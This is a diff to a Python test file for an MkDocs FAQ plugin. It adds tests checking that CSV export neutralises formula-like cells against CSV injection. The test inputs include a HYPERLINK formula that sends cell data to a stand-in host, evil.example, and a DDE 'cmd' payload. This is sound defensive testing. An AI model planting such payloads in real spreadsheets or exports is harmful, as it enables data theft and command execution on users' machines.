@@ -11,10 +11,13 @@ import sys
 from pathlib import Path
 
 import pytest
-
 from conftest import MINIMAL_FAQ
+from hypothesis import given
+from hypothesis import strategies as st
+
 from mkdocs_faq_plugin.export import (
     CSV_COLUMNS,
+    FORMULA_STARTS,
     export_data,
     markdown_to_text,
     page_url,
@@ -163,7 +166,7 @@ def test_csv_has_one_row_per_question_and_round_trips() -> None:
     assert first["owner"] == "docs" and first["reviewed"] == "2026-01-31"
     assert first["url"] == "https://e.org/faq/basics/#a"
     assert rows[1]["related"] == "a"  # backlink
-    assert rows[1]["answer_markdown"] == "=1+1"
+    assert rows[1]["answer_markdown"] == "'=1+1"  # shown as text by spreadsheets
     assert rows[1]["owner"] == "" and rows[1]["reviewed"] == ""
 
 
@@ -212,3 +215,39 @@ def test_export_module_does_not_import_mkdocs() -> None:
         [sys.executable, "-c", code], capture_output=True, text=True, check=True
     ).stdout
     assert output.strip() == "[]"
+
+
+FORMULAS = [
+    "=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "\uff1d1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_that_start_like_formulas_are_neutralised(formula: str) -> None:
+    """OWASP "CSV injection": every cell, question and answer alike, starts with `'`."""
+    kb = KnowledgeBase(
+        questions=(Question("a", formula, formula, tags=(formula,), owner=formula),),
+    )
+    row = next(csv.DictReader(io.StringIO(to_csv(kb), newline="")))
+    for column in ("question", "answer_markdown", "answer_text", "tags", "owner"):
+        assert row[column].startswith("'"), column
+        assert row[column][1:2] == formula[:1] or column == "answer_text"
+    assert export_data(kb)["questions"][0]["question"] == formula  # JSON keeps the text
+
+
+@given(st.text(max_size=20))
+def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
+    kb = KnowledgeBase(questions=(Question("a", text or "q", text or "a", owner=text or None),))
+    header, row = list(csv.reader(io.StringIO(to_csv(kb), newline="")))
+    assert header == list(CSV_COLUMNS)
+    for cell in row:
+        assert not cell.startswith(FORMULA_STARTS)
+    written = row[CSV_COLUMNS.index("question")]
+    expected = text or "q"
+    assert written == (f"'{expected}" if expected.startswith(FORMULA_STARTS) else expected)
